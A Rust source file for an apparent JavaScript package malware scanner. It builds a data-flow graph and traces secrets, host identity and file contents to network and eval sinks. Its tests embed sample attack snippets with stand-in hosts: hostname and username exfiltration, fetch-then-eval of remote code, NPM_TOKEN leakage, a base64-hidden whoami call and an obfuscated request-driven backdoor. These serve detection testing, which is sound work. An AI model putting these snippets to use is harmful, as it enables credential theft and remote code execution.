//! The package's flow graph: every file's graph, linked through relative
//! `require`s and imports, with the kinds spread from their origins to every node
//! they can reach.
//!
//! Propagation is a breadth-first worklist over a mask per node; a node's mask only
//! grows, and by at most one bit per kind, so the work is bounded by edges × kinds.
//! For every (node, kind) the first predecessor that brought the kind is kept: the
//! trail a finding shows is the shortest path from the origin to the sink.

use std::collections::{HashMap, VecDeque};
use std::hash::{BuildHasherDefault, Hasher};

use super::flow::{FileFlow, NodeKind, SinkSite, Transfer};
use super::kinds::{Kind, LOST_THROUGH_CALLS, Mask};
use super::literals::HostClass;
use crate::finding::Reach;

/// A multiply-rotate hasher for the graph's integer keys (the standard SipHash
/// costs more than the propagation it serves).
#[derive(Default)]
pub(crate) struct IntHasher(u64);

impl Hasher for IntHasher {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.write_u64(u64::from(*byte));
        }
    }

    fn write_u8(&mut self, value: u8) {
        self.write_u64(u64::from(value));
    }

    fn write_u32(&mut self, value: u32) {
        self.write_u64(u64::from(value));
    }

    fn write_u64(&mut self, value: u64) {
        self.0 = (self.0.rotate_left(5) ^ value).wrapping_mul(0x517c_c1b7_2722_0a95);
    }

    fn write_usize(&mut self, value: usize) {
        self.write_u64(value as u64);
    }
}

pub(crate) type IntMap<K, V> = HashMap<K, V, BuildHasherDefault<IntHasher>>;

/// How many hops a kind travels from its origin: variables, returns, parameters.
const MAX_HOPS: u16 = 12;

/// How many functions may share a method name for calls to be bound to them all.
const MAX_METHOD_TARGETS: usize = 8;

/// One file's part in the package graph.
pub(crate) struct FileInput<'a> {
    pub(crate) path: &'a str,
    pub(crate) flow: &'a FileFlow,
    pub(crate) reach: Reach,
    /// A bundle or minified file.
    pub(crate) bundle: bool,
}

/// Each file's component of the module graph: files linked by relative
/// `require`s and imports, in either direction, share one.
fn module_components(
    files: &[FileInput<'_>],
    resolve: &impl Fn(&str, &str) -> Option<usize>,
) -> Vec<usize> {
    fn root(parent: &mut [usize], mut file: usize) -> usize {
        while parent[file] != file {
            parent[file] = parent[parent[file]];
            file = parent[file];
        }
        file
    }
    let mut parent: Vec<usize> = (0..files.len()).collect();
    for (index, file) in files.iter().enumerate() {
        let specifiers = file
            .flow
            .imports
            .iter()
            .map(|import| import.specifier.as_str())
            .chain(
                file.flow
                    .import_calls
                    .iter()
                    .map(|call| call.specifier.as_str()),
            )
            .chain(file.flow.links.iter().map(String::as_str));
        for specifier in specifiers {
            if let Some(target) = resolve(file.path, specifier) {
                let (a, b) = (root(&mut parent, index), root(&mut parent, target));
                parent[a] = b;
            }
        }
    }
    (0..files.len())
        .map(|file| root(&mut parent, file))
        .collect()
}

#[derive(Clone, Copy, Debug)]
enum Pred {
    Origin {
        file: u32,
        origin: u32,
    },
    Node(u32),
    /// Made at a transfer node from another kind (a file's contents from its path).
    Derived {
        node: u32,
        from: Kind,
    },
}

/// A sink with everything that reaches it.
pub(crate) struct Reached<'g> {
    pub(crate) site: &'g SinkSite,
    pub(crate) path: &'g str,
    pub(crate) reach: Reach,
    pub(crate) bundle: bool,
    /// The sink's file writes a foreign host somewhere (a literal with one).
    pub(crate) names_foreign_host: bool,
    pub(crate) mask: Mask,
    node: u32,
}

pub(crate) struct Graph<'a> {
    files: Vec<FileInput<'a>>,
    offsets: Vec<u32>,
    /// Node → its file.
    file_of: Vec<u32>,
    /// Compressed successor lists: `targets[starts[n]..starts[n + 1]]`.
    starts: Vec<u32>,
    targets: Vec<(u32, bool)>,
    mask: Vec<Mask>,
    /// For each (node, kind): where the kind came from, and how many hops from its origin.
    pred: IntMap<(u32, u8), (Pred, u16)>,
}

impl<'a> Graph<'a> {
    /// Links the files (`resolve` maps a file and a specifier to another file's
    /// index) and spreads the kinds. Hosts equal to `registry_hosts` are the
    /// registry's, not foreign.
    pub(crate) fn build(
        files: Vec<FileInput<'a>>,
        resolve: impl Fn(&str, &str) -> Option<usize>,
        registry_hosts: &[String],
    ) -> Self {
        let mut offsets = Vec::with_capacity(files.len());
        let mut total = 0u32;
        for file in &files {
            offsets.push(total);
            total = total.saturating_add(u32::try_from(file.flow.nodes.len()).unwrap_or(u32::MAX));
        }
        let mut file_of = vec![0u32; total as usize];
        for (index, file) in files.iter().enumerate() {
            let start = offsets[index] as usize;
            file_of[start..start + file.flow.nodes.len()]
                .fill(u32::try_from(index).unwrap_or(u32::MAX));
        }
        let mut edges: Vec<(u32, u32, bool)> = Vec::new();
        let mut seeds: Vec<(u32, u32, u32)> = Vec::new();
        for (index, file) in files.iter().enumerate() {
            let offset = offsets[index];
            edges.extend(
                file.flow
                    .edges
                    .iter()
                    .map(|(from, to, lossy)| (from + offset, to + offset, *lossy)),
            );
            seeds.extend(
                file.flow.seeds.iter().map(|(node, origin)| {
                    (node + offset, u32::try_from(index).unwrap_or(0), *origin)
                }),
            );
            for import in &file.flow.imports {
                let Some(target) = resolve(file.path, &import.specifier) else {
                    continue;
                };
                let target_flow = files[target].flow;
                let target_offset = offsets[target];
                let node = import.node + offset;
                let member_node = import.member.as_ref().and_then(|member| {
                    target_flow
                        .export_members
                        .iter()
                        .find(|(name, _)| name == member)
                        .map(|(_, node)| *node)
                });
                let function = target_flow
                    .export_functions
                    .iter()
                    .find(|(name, _)| import.member.as_deref().unwrap_or("") == name)
                    .map(|(_, function)| *function);
                match (import.call, function, member_node, target_flow.exports) {
                    (true, Some(function), _, _) => {
                        edges.push((
                            target_flow.functions[function as usize].ret + target_offset,
                            node,
                            false,
                        ));
                    }
                    (_, _, Some(member), _) => edges.push((member + target_offset, node, false)),
                    (_, _, None, Some(exports)) => {
                        edges.push((exports + target_offset, node, false));
                    }
                    _ => {}
                }
            }
            for call in &file.flow.import_calls {
                let Some(target) = resolve(file.path, &call.specifier) else {
                    continue;
                };
                let target_flow = files[target].flow;
                let Some((_, function)) = target_flow
                    .export_functions
                    .iter()
                    .find(|(name, _)| call.member.as_deref().unwrap_or("") == name)
                else {
                    continue;
                };
                let params = &target_flow.functions[*function as usize].params;
                for (param, argument) in params.iter().zip(&call.arguments) {
                    let param = param + offsets[target];
                    seeds.extend(
                        argument
                            .origins
                            .iter()
                            .map(|origin| (param, u32::try_from(index).unwrap_or(0), *origin)),
                    );
                    edges.extend(
                        argument
                            .reads
                            .iter()
                            .map(|read| (read + offset, param, false)),
                    );
                    edges.extend(
                        argument
                            .lossy
                            .iter()
                            .map(|read| (read + offset, param, true)),
                    );
                }
            }
        }
        // `x.name(...)` bound by name across the package, to names few functions
        // share: common method names would join unrelated code. Only files one
        // module graph links can share an object, so a call is bound only to the
        // methods of its own component (not to a worker script's or a second
        // bundle's).
        let component = module_components(&files, &resolve);
        let mut methods: HashMap<&str, Vec<(usize, u32)>> = HashMap::new();
        for (index, file) in files.iter().enumerate() {
            for (name, function) in &file.flow.methods {
                methods
                    .entry(name.as_str())
                    .or_default()
                    .push((index, *function));
            }
        }
        for (index, file) in files.iter().enumerate() {
            let offset = offsets[index];
            for (name, result, arguments) in &file.flow.method_calls {
                let Some(targets) = methods
                    .get(name.as_str())
                    .filter(|targets| targets.len() <= MAX_METHOD_TARGETS)
                else {
                    continue;
                };
                for (target, function) in targets
                    .iter()
                    .filter(|(target, _)| component[*target] == component[index])
                {
                    let info = &files[*target].flow.functions[*function as usize];
                    let target_offset = offsets[*target];
                    edges.push((info.ret + target_offset, result + offset, false));
                    for (param, argument) in info.params.iter().zip(arguments) {
                        let param = param + target_offset;
                        seeds.extend(
                            argument
                                .origins
                                .iter()
                                .map(|origin| (param, u32::try_from(index).unwrap_or(0), *origin)),
                        );
                        edges.extend(
                            argument
                                .reads
                                .iter()
                                .map(|read| (read + offset, param, false)),
                        );
                        edges.extend(
                            argument
                                .lossy
                                .iter()
                                .map(|read| (read + offset, param, true)),
                        );
                    }
                }
            }
        }
        // Successor lists by counting sort: one pass to size them, one to fill.
        let mut starts = vec![0u32; total as usize + 1];
        for (from, _, _) in &edges {
            starts[*from as usize + 1] += 1;
        }
        for index in 1..starts.len() {
            starts[index] += starts[index - 1];
        }
        let mut filled = starts.clone();
        let mut targets = vec![(0u32, false); edges.len()];
        for (from, to, lossy) in &edges {
            let slot = &mut filled[*from as usize];
            targets[*slot as usize] = (*to, *lossy);
            *slot += 1;
        }
        let mut graph = Self {
            files,
            offsets,
            file_of,
            starts,
            targets,
            mask: vec![Mask::EMPTY; total as usize],
            pred: IntMap::default(),
        };
        graph.propagate(&seeds, registry_hosts);
        graph
    }

    fn node_info(&self, node: u32) -> (&FileInput<'a>, &super::flow::NodeInfo) {
        let file = &self.files[self.file_of[node as usize] as usize];
        let local = node - self.offsets[self.file_of[node as usize] as usize];
        (file, &file.flow.nodes[local as usize])
    }

    fn transfer_of(&self, node: u32) -> Option<Transfer> {
        match self.node_info(node).1.kind {
            NodeKind::Transfer(transfer) => Some(transfer),
            _ => None,
        }
    }

    fn propagate(&mut self, seeds: &[(u32, u32, u32)], registry_hosts: &[String]) {
        let mut queue = VecDeque::new();
        for (node, file, origin_index) in seeds {
            let origin = &self.files[*file as usize].flow.origins[*origin_index as usize];
            let mut kinds = origin.kinds;
            if let Some((host, HostClass::Other | HostClass::Known)) = &origin.host
                && registry_hosts
                    .iter()
                    .any(|registry| registry.eq_ignore_ascii_case(host))
            {
                kinds = kinds
                    .minus(Mask::of(&[Kind::HostOther, Kind::HostKnown]))
                    .union(Kind::HostRegistry.bit());
            }
            let new = kinds.minus(self.mask[*node as usize]);
            if new.is_empty() {
                continue;
            }
            self.mask[*node as usize] = self.mask[*node as usize].union(new);
            for kind in new.kinds() {
                self.pred.entry((*node, kind as u8)).or_insert((
                    Pred::Origin {
                        file: *file,
                        origin: *origin_index,
                    },
                    0,
                ));
            }
            queue.push_back(*node);
        }
        // Transfer nodes make kinds of their own (a read's contents) whatever
        // reaches them.
        for node in 0..u32::try_from(self.mask.len()).unwrap_or(u32::MAX) {
            if self.transfer_of(node).is_some() {
                queue.push_back(node);
            }
        }
        let mut queued = vec![false; self.mask.len()];
        for node in &queue {
            queued[*node as usize] = true;
        }
        while let Some(node) = queue.pop_front() {
            queued[node as usize] = false;
            let input = self.mask[node as usize];
            let output = match self.transfer_of(node) {
                Some(transfer) => self.transfer(node, transfer, input),
                None => input,
            };
            let (start, end) = (
                self.starts[node as usize] as usize,
                self.starts[node as usize + 1] as usize,
            );
            for index in start..end {
                let (target, lossy) = self.targets[index];
                let carried = if lossy {
                    output.minus(LOST_THROUGH_CALLS)
                } else {
                    output
                };
                let mut new = carried.minus(self.mask[target as usize]);
                if new.is_empty() {
                    continue;
                }
                for kind in new.kinds() {
                    let hops = self
                        .pred
                        .get(&(node, kind as u8))
                        .map_or(0, |(_, hops)| *hops)
                        + 1;
                    // Data that only gets somewhere through dozens of variables has
                    // usually not got there: the model joins more than code does.
                    if hops > MAX_HOPS {
                        new = new.minus(kind.bit());
                        continue;
                    }
                    self.pred
                        .entry((target, kind as u8))
                        .or_insert((Pred::Node(node), hops));
                }
                if new.is_empty() {
                    continue;
                }
                self.mask[target as usize] = self.mask[target as usize].union(new);
                if !queued[target as usize] {
                    queued[target as usize] = true;
                    queue.push_back(target);
                }
            }
        }
    }

    /// What leaves a transfer node, given what reaches it; records where each new
    /// kind came from.
    fn transfer(&mut self, node: u32, transfer: Transfer, input: Mask) -> Mask {
        let mut made: Vec<(Kind, Kind)> = Vec::new();
        match transfer {
            Transfer::ReadFile => {
                for (path, contents) in [
                    (Kind::PathCredential, Kind::Credential),
                    (Kind::PathBrowser, Kind::BrowserData),
                    (Kind::PathWallet, Kind::WalletData),
                    (Kind::PathDiscord, Kind::DiscordData),
                    (Kind::PathSystem, Kind::SystemFile),
                    (Kind::PathUserFiles, Kind::UserFiles),
                ] {
                    if input.has(path) {
                        made.push((contents, path));
                    }
                }
            }
            Transfer::CommandOutput => {
                if input.has(Kind::ReconCommand) {
                    made.push((Kind::Identity, Kind::ReconCommand));
                }
            }
            Transfer::SubPath => {
                if input.has(Kind::PathHome) {
                    made.push((Kind::PathInHome, Kind::PathHome));
                }
            }
        }
        let mut output = match transfer {
            Transfer::ReadFile => Kind::FileContents.bit(),
            Transfer::CommandOutput => Kind::ProcessOutput.bit(),
            // Everything else the parts carry stays in the path.
            Transfer::SubPath => input.minus(Kind::PathHome.bit()),
        };
        for (kind, from) in made {
            output = output.union(kind.bit());
            let hops = self
                .pred
                .get(&(node, from as u8))
                .map_or(0, |(_, hops)| *hops);
            self.pred
                .entry((node, kind as u8))
                .or_insert((Pred::Derived { node, from }, hops));
        }
        // The transfer's own kinds start here.
        let own = output.minus(input);
        for kind in own.kinds() {
            self.pred
                .entry((node, kind as u8))
                .or_insert((Pred::Derived { node, from: kind }, 0));
        }
        // A read's path and a command's data are not its result, but data that is
        // already derived (a host's identity in the command) stays.
        output.union(input.meet(Mask::of(&[Kind::Decoded])))
    }

    /// Every sink of every file, with what reaches it.
    pub(crate) fn sinks(&self) -> impl Iterator<Item = Reached<'_>> {
        self.files
            .iter()
            .enumerate()
            .flat_map(move |(index, file)| {
                let names_foreign_host = file
                    .flow
                    .origins
                    .iter()
                    .any(|origin| origin.kinds.any(super::kinds::FOREIGN_HOSTS));
                file.flow.sinks.iter().map(move |site| {
                    let node = self.offsets[index] + site.node;
                    Reached {
                        site,
                        path: file.path,
                        reach: file.reach,
                        bundle: file.bundle,
                        names_foreign_host,
                        mask: self.mask[node as usize],
                        node,
                    }
                })
            })
    }

    /// What reaches a file operation's path.
    pub(crate) fn target_mask(&self, reached: &Reached<'_>) -> Mask {
        reached.site.target.map_or(Mask::EMPTY, |node| {
            self.mask[(reached.node - reached.site.node + node) as usize]
        })
    }

    /// The names of the variables a file operation's path was built from, within
    /// its file and a few steps back: `dest`, then `FinalPath` that was passed as
    /// `dest`. Empty for other sinks.
    pub(crate) fn target_names(&self, reached: &Reached<'_>) -> Vec<&str> {
        const STEPS: usize = 6;
        let Some(target) = reached.site.target else {
            return Vec::new();
        };
        let (file, _) = self.node_info(reached.node);
        let flow = file.flow;
        let mut seen: Vec<super::flow::Node> = vec![target];
        let mut frontier = vec![target];
        for _ in 0..STEPS {
            let mut next = Vec::new();
            for (from, to, _) in &flow.edges {
                if frontier.contains(to) && !seen.contains(from) {
                    seen.push(*from);
                    next.push(*from);
                }
            }
            if next.is_empty() || seen.len() > 64 {
                break;
            }
            frontier = next;
        }
        seen.iter()
            .filter_map(|node| flow.nodes.get(*node as usize))
            .filter(|info| matches!(info.kind, NodeKind::Variable))
            .map(|info| info.name.as_str())
            .collect()
    }

    /// How many steps `kind` took from its origin to the sink.
    pub(crate) fn hops(&self, reached: &Reached<'_>, kind: Kind) -> u16 {
        self.pred
            .get(&(reached.node, kind as u8))
            .map_or(0, |(_, hops)| *hops)
    }

    /// How `kind` reached the sink: from its origin, through each named node.
    pub(crate) fn trail(&self, reached: &Reached<'_>, kind: Kind) -> Vec<String> {
        let mut steps: Vec<String> = Vec::new();
        let mut current = (reached.node, kind);
        for _ in 0..24 {
            let Some((pred, _)) = self.pred.get(&(current.0, current.1 as u8)) else {
                break;
            };
            match *pred {
                Pred::Origin { file, origin } => {
                    let file = &self.files[file as usize];
                    let origin = &file.flow.origins[origin as usize];
                    let place = if file.path == reached.path {
                        format!("line {}", origin.line)
                    } else {
                        format!("{}:{}", file.path, origin.line)
                    };
                    steps.push(format!("{} ({place})", origin.text));
                    break;
                }
                Pred::Node(node) => {
                    let (_, info) = self.node_info(node);
                    if !matches!(info.kind, NodeKind::Sink) && steps.last() != Some(&info.name) {
                        steps.push(info.name.clone());
                    }
                    current = (node, current.1);
                }
                Pred::Derived { node, from } => {
                    let (_, info) = self.node_info(node);
                    if steps.last() != Some(&info.name) {
                        steps.push(info.name.clone());
                    }
                    if from == current.1 {
                        break;
                    }
                    current = (node, from);
                }
            }
        }
        steps.reverse();
        steps
    }

    /// The host literal that brought a host kind to the sink.
    pub(crate) fn host(&self, reached: &Reached<'_>, kind: Kind) -> Option<(String, HostClass)> {
        let mut current = reached.node;
        for _ in 0..64 {
            match &self.pred.get(&(current, kind as u8))?.0 {
                Pred::Origin { file, origin } => {
                    return self.files[*file as usize].flow.origins[*origin as usize]
                        .host
                        .clone();
                }
                Pred::Node(node) => current = *node,
                Pred::Derived { .. } => return None,
            }
        }
        None
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::js::scan;

    /// The sinks of one file, each as `api: kinds`, with the file taken to run on
    /// import.
    pub(crate) fn sinks_of(source: &str) -> Vec<String> {
        let facts = scan::scan("index.js", source);
        let graph = Graph::build(
            vec![FileInput {
                path: "index.js",
                flow: &facts.flow,
                reach: Reach::Import,
                bundle: false,
            }],
            |_, _| None,
            &[],
        );
        graph
            .sinks()
            .map(|reached| {
                let kinds: Vec<&str> = reached.mask.kinds().map(Kind::describe).collect();
                format!("{}: {}", reached.site.api, kinds.join(", "))
            })
            .collect()
    }

    /// One sink's kinds, for a file run on import.
    fn check(source: &str, expect: &[&str]) {
        assert_eq!(sinks_of(source), expect, "{source}");
    }

    #[test]
    fn values_flow_through_variables_objects_serialisers_and_handles() {
        check(
            "const os = require('os');\nconst https = require('https');\nconst qs = require('querystring');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });\nconst body = qs.stringify({ msg: data });\nconst req = https.request({ hostname: 'x.example.invalid', method: 'POST' });\nreq.write(body);\nreq.end();\n",
            &["https.request: host identity, a hard-coded host"],
        );
    }

    #[test]
    fn values_flow_through_functions_and_callbacks() {
        check(
            "const dns = require('dns');\nconst os = require('os');\nfunction label(host) { return `${host}.x.example.invalid`; }\nconst name = label(os.hostname());\ndns.lookup(name, () => {});\n",
            &["dns.lookup: host identity, a hard-coded host"],
        );
        check(
            "const https = require('https');\nhttps.get('https://x.example.invalid/p', (res) => { let code = ''; res.on('data', (chunk) => { code += chunk; }); res.on('end', () => eval(code)); });\n",
            &["eval: a network response", "https.get: a hard-coded host"],
        );
    }

    #[test]
    fn hashes_tests_and_options_carry_nothing() {
        check(
            "const os = require('os');\nconst crypto = require('crypto');\nconst id = crypto.createHash('sha256').update(os.hostname()).digest('hex');\nfetch('https://x.example.invalid/', { body: id });\n",
            &["fetch: a hard-coded host"],
        );
        // The environment handed to a child process is how tools pass it on.
        check(
            "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env });\n",
            &["child_process.spawn: "],
        );
        // Names read out of the environment say what they are.
        check(
            "const { NODE_ENV, NPM_TOKEN } = process.env;\nfetch('https://x.example.invalid/' + NODE_ENV);\nfetch('https://y.example.invalid/' + NPM_TOKEN);\n",
            &[
                "fetch: a hard-coded host",
                "fetch: a secret from the environment, a hard-coded host",
            ],
        );
    }

    #[test]
    fn literals_decoded_in_the_code_are_followed() {
        check(
            "const m = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.execSync('whoami');\n",
            &["child_process.execSync: a reconnaissance command"],
        );
        check(
            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
            &["eval: decoded literals"],
        );
    }

    #[test]
    fn request_data_through_the_exports_reaches_eval() {
        let sinks = sinks_of(
            "let harness = (req, res, callback, next) => {\n  module.exports.log = module.exports.log || Buffer.alloc(0xffff);\n  JSON.stringify(req.headers).replace(/x/gi, (o, p, v) => {\n    v = Buffer.from(v, 'hex');\n    for (let i = 0; i < v.length; i++) { module.exports.log[p + i] = v[i]; }\n    let c = module.exports.log.toString().replace(/y/, '');\n    require('\\x76\\x6d')['\\x72\\x75\\x6e\\x49\\x6e\\x54\\x68\\x69\\x73\\x43\\x6f\\x6e\\x74\\x65\\x78\\x74'](c)(module.exports, require, req, res, next);\n  });\n};\nmodule.exports.assert = (req, res, callback, next) => { harness(req, res, callback, next); };\n",
        );
        assert_eq!(sinks, ["vm.runInThisContext: request data"]);
    }
}
